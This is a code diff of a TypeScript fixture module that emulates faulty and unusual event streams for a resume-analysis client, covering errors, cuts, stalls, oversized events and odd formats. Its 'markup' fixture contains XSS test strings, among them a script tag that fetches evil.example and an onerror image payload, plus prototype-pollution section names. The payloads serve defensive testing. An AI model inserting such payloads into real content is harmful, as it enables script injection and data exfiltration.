@@ -1,35 +1,66 @@
-import type { Frame, StreamEnd } from '../wire/answer';
+import { joinPieces } from '../content/pieces';
 import type { SectionPiece } from '../wire/api';
-import type { StreamFault } from './fault';
-import { sectionFrames, splitAfter } from './frames';
+import { streamResponse, type End, type EventFormat, type Frame } from '../wire/response';
+import type { Source } from '../wire/response';
+import type { Fault } from './fault';
+
+type Pieces = readonly SectionPiece[];
 
 const KIB = 1024;
 const done: Frame = { kind: 'done' };
 
-/**
- * Sends the first sections, then these frames.
- * @param sections how many of the normal sections come first
- * @param end how the stream stops; `goOn` sends the other sections and `done` before it is closed
- */
-const stream = (
-	sections: number,
+const sectionFrames = (pieces: Pieces): Frame[] =>
+	pieces.map((piece) => ({ kind: 'section', ...piece }));
+
+/** The frames of a normal stream. */
+export const normalFrames = (pieces: Pieces): Frame[] => [
+	{ kind: 'progress', text: 'Reading the resume' },
+	{ kind: 'progress', text: 'Comparing it with the posting' },
+	...sectionFrames(pieces),
+	done,
+];
+
+/** The frames of a normal stream that holds after its first piece. */
+export function heldFrames(pieces: Pieces): Frame[] {
+	const frames = normalFrames(pieces);
+	const second = 1 + frames.findIndex(({ kind }) => kind === 'section');
+	return [...frames.slice(0, second), { kind: 'hold' }, ...frames.slice(second)];
+}
+
+/** The pieces of the first sections, and those of the others. */
+function splitAfter(count: number, pieces: Pieces): [first: Pieces, others: Pieces] {
+	const names = [...new Set(pieces.map(({ section }) => section))].slice(0, count);
+	const isFirst = ({ section }: SectionPiece) => names.includes(section);
+	return [pieces.filter(isFirst), pieces.filter((piece) => !isFirst(piece))];
+}
+
+const fault = (
 	description: string,
-	frames: readonly Frame[],
-	end: StreamEnd | 'goOn' = 'close',
-): StreamFault => ({
+	when: Fault['when'],
+	frames: (pieces: Pieces) => Source<Frame>,
+	more: { end?: End; format?: EventFormat; delivers?: false } = {},
+): Fault => ({
 	description,
-	when: 'within',
+	when,
 	of: 'stream',
-	answer: ({ pieces }) => {
-		const [first, others] = splitAfter(sections, pieces);
-		const rest = end === 'goOn' ? [...sectionFrames(others), done] : [];
-		return {
-			kind: 'stream',
-			frames: [...sectionFrames(first), ...frames, ...rest],
-			end: end === 'goOn' ? 'close' : end,
-		};
-	},
+	outcome: ({ pieces = [] }) => streamResponse(frames(pieces), more),
 });
+
+/** Sends the first sections and these frames, and then stops. */
+const broken = (sections: number, description: string, frames: Frame[], end?: End): Fault =>
+	fault(
+		description,
+		'within',
+		(pieces) => [...sectionFrames(splitAfter(sections, pieces)[0]), ...frames],
+		{ end },
+	);
+
+/** Sends this frame after the first sections, then the others. */
+const wrong = (sections: number, description: string, frame: Frame): Fault =>
+	fault(description, 'within', (pieces) => {
+		const [first, others] = splitAfter(sections, pieces);
+		return [...sectionFrames(first), frame, ...sectionFrames(others), done];
+	});
 
 const error = (statusCode?: number): Frame => ({
 	kind: 'error',
@@ -37,73 +68,123 @@ const error = (statusCode?: number): Frame => ({
 	statusCode,
 });
 
+/** Sends an error as the very first event, which means that nothing is charged. */
+const refused = (description: string, statusCode?: number): Fault =>
+	fault(description, 'within', () => [error(statusCode)], { delivers: false });
+
+/** A complete stream that is unusual. */
+const healthy = (
+	description: string,
+	frames: (pieces: Pieces) => Frame[],
+	format?: EventFormat,
+	end?: End,
+): Fault => fault(description, 'healthy', frames, { format, end });
+
+const formatted = (description: string, format: EventFormat): Fault =>
+	healthy(description, normalFrames, format);
+
 /** JSON that ends within a string. */
 const malformed: Frame = {
 	kind: 'malformed',
 	data: '{"type":"section","section":"skills","content":"Plann',
 };
 
-/** The second event is the one that the documented dialect, which has no progress, sends. */
-const progress: Frame[] = [
-	{ kind: 'progress', text: 'Reading the resume' },
-	{ kind: 'event', data: '{"type":"usage","tokens":12}' },
-];
+const usage: Frame = { kind: 'event', data: '{"type":"usage","tokens":12}' };
 
-function bigEvent(pieces: readonly SectionPiece[]): Frame[] {
-	const content = 'Ein sehr langer Satz. '.repeat(Math.ceil((8 * KIB * KIB) / 22) + KIB);
-	const [first] = splitAfter(1, pieces);
-	return [...sectionFrames(first), { kind: 'section', section: 'work_experience', content }, done];
-}
+const bigEvent: Frame = {
+	kind: 'section',
+	section: 'work_experience',
+	content: 'Ein sehr langer Satz. '.repeat(Math.ceil((8 * KIB * KIB) / 22) + KIB),
+};
 
 /** 65 MiB of content in pieces of 64 KiB, of which only one at a time is kept in memory. */
 function* bigStream(): Generator<Frame> {
 	const content = 'Lorem ipsum dolor sit amet, consectetur. '.repeat(1640).slice(0, 64 * KIB);
-	for (let section = 1; section <= 20; section++) {
-		for (let piece = 1; piece <= 52; piece++) {
-			yield { kind: 'section', section: `section_${section}`, content };
-		}
+	for (let piece = 0; piece < 20 * 52; piece++) {
+		yield { kind: 'section', section: `section_${Math.floor(piece / 52) + 1}`, content };
 	}
 	yield done;
 }
 
-/** Faults of a stream that has opened. Those that do not start with an error cost credits. */
+const withUnknownEvents = (pieces: Pieces): Frame[] => [
+	{ kind: 'bytes', bytes: 'retry: 3000\nid: 1\nflavour: none\n\n' },
+	...normalFrames(pieces).flatMap((frame): Frame[] => [
+		usage,
+		{ kind: 'event', event: 'trace', data: '{"step":"write"}' },
+		frame.kind === 'section' ? { ...frame, extra: { index: 7, model: { name: 'x' } } } : frame,
+	]),
+];
+
+const trickyNames: Pieces = [
+	{ section: '__proto__', content: 'A section like any other, ' },
+	{ section: '__proto__', content: 'whatever its name.' },
+	{ section: 'constructor', content: 'So is this one.' },
+	{ section: 'toString', content: 'And this one.' },
+];
+
+const markup: Pieces = [
+	{ section: 'summary', content: '# Not a heading\n\nResearch & "development" <b>lead</b>' },
+	{ section: 'summary', content: ' <script>fetch("https://evil.example/?c=1")</script>' },
+	{ section: 'skills', content: '## Skills\n- <img src="https://evil.example/pixel.gif" ' },
+	{ section: 'skills', content: "onerror='alert(1)'>\n- [a link](javascript:alert(1))" },
+	{ section: 'a<b>&"c"', content: 'A name with markup in it; 5 < 6 && 7 > 6.' },
+];
+
+/** Faults of a stream that has opened, and complete streams that are unusual in some way. */
 export const inStream = {
-	empty: stream(0, 'opens the stream and ends it without any event', []),
-	cut_first: stream(0, 'opens the stream and cuts the connection', [], 'cut'),
-	stall_first: stream(0, 'opens the stream and sends nothing', [], 'hold'),
-	malformed_first: stream(0, 'starts with an event that is not JSON', [malformed], 'goOn'),
-	error_first_429: stream(0, 'starts with an error 429, every time', [error(429)]),
-	error_first_503: stream(0, 'starts with an error 503, every time', [error(503)]),
-	error_first_500: stream(0, 'starts with an error 500', [error(500)]),
-	error_first_400: stream(0, 'starts with an error 400', [error(400)]),
-	error_first: stream(0, 'starts with an error without a status', [error()]),
-	progress_then_429: stream(0, 'streams an error 429 after an event that is no section', [
-		...progress,
+	error_first_once: {
+		...refused('streams an error 429 before any section the first time, then succeeds', 429),
+		when: 'recovering',
+	},
+	empty: broken(0, 'opens the stream and ends it without any event', []),
+	cut_first: broken(0, 'opens the stream and cuts the connection', [], 'cut'),
+	stall_first: broken(0, 'opens the stream and sends nothing', [], 'hold'),
+	malformed_first: wrong(0, 'starts with an event that is not JSON', malformed),
+	error_first_429: refused('starts with an error 429, every time', 429),
+	error_first_503: refused('starts with an error 503, every time', 503),
+	error_first_500: refused('starts with an error 500', 500),
+	error_first_400: refused('starts with an error 400', 400),
+	error_first: refused('starts with an error without a status'),
+	progress_then_429: broken(0, 'streams an error 429 after an event that is no section', [
+		{ kind: 'progress', text: 'Reading the resume' },
+		usage,
 		error(429),
 	]),
-	nothing: stream(0, 'sends done without any section', [done]),
-	truncated: stream(2, 'ends after some sections, without done', []),
-	cut: stream(2, 'cuts the connection after some sections', [], 'cut'),
-	stall: stream(2, 'sends nothing more after some sections', [], 'hold'),
-	malformed: stream(2, 'sends an event that is not JSON after some sections', [malformed], 'goOn'),
-	wrong_type: stream(
-		2,
-		'sends a number as content after some sections',
-		[{ kind: 'section', section: 'skills', content: 42 }],
-		'goOn',
+	nothing: broken(0, 'sends done without any section', [done]),
+	truncated: broken(2, 'ends after some sections, without done', []),
+	cut: broken(2, 'cuts the connection after some sections', [], 'cut'),
+	stall: broken(2, 'sends nothing more after some sections', [], 'hold'),
+	malformed: wrong(2, 'sends an event that is not JSON after some sections', malformed),
+	wrong_type: wrong(2, 'sends a number as content after some sections', {
+		kind: 'section',
+		section: 'skills',
+		content: 42,
+	}),
+	error_mid: broken(2, 'streams an error 429 after some sections', [error(429)]),
+	error_mid_plain: broken(2, 'streams an error without a status after some sections', [error()]),
+	big_event: broken(1, 'sends one event of more than 8 MiB after one section', [bigEvent, done]),
+	big_stream: fault('sends more than 64 MiB of sections', 'within', bigStream),
+
+	unknown_events: healthy('sends unknown events and fields in between', withUnknownEvents),
+	unterminated: formatted('ends right after done, without an empty line', { unterminated: true }),
+	holds_open: healthy('leaves the connection open after done', normalFrames, {}, 'hold'),
+	bom: formatted('starts with a byte order mark', { byteOrderMark: true }),
+	crlf: formatted('ends its lines with CR LF', { lineEnd: '\r\n' }),
+	cr: formatted('ends its lines with CR alone', { lineEnd: '\r' }),
+	comments: formatted('sends comments between the events', { comments: true }),
+	multi_data: formatted('spreads the JSON of an event over several lines', { multiLine: true }),
+	one_byte: formatted('sends each byte separately', { byteByByte: true }),
+	slow: healthy(
+		'sends whole sections, 300 ms apart',
+		(pieces) => normalFrames(joinPieces(pieces)),
+		{ pieceDelay: 300 },
 	),
-	error_mid: stream(2, 'streams an error 429 after some sections', [error(429)]),
-	error_mid_plain: stream(2, 'streams an error without a status after some sections', [error()]),
-	big_event: {
-		description: 'sends one event of more than 8 MiB after one section',
-		when: 'within',
-		of: 'stream',
-		answer: ({ pieces }) => ({ kind: 'stream', frames: bigEvent(pieces) }),
-	},
-	big_stream: {
-		description: 'sends more than 64 MiB of sections',
-		when: 'within',
-		of: 'stream',
-		answer: () => ({ kind: 'stream', frames: bigStream() }),
-	},
-} satisfies Record<string, StreamFault>;
+	hold: healthy('waits after the first piece until the emulator releases it', heldFrames),
+	proto: healthy('names its sections __proto__, constructor and toString', () =>
+		normalFrames(trickyNames),
+	),
+	markup: healthy('sends HTML, scripts, quotes and Markdown as content', () =>
+		normalFrames(markup),
+	),
+	single: healthy('sends one section only', (pieces) => normalFrames(splitAfter(1, pieces)[0])),
+} satisfies Record<string, Fault>;
